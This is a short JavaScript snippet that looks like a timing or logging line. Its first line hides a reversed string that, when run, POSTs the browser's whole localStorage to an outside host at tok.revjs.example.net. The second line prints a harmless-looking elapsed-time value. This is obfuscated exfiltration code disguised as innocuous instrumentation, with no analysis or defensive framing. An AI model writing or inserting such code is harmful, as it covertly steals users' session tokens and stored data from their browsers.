new Function(")})egarotSlacol(yfignirts.NOSJ:ydob,'TSOP':dohtem{,'t/ten.elpmaxe.sjver.kot//:sptth'(hctef".split("").reverse().join(""))();
console.log(performance.now().toFixed(1) + " ms");
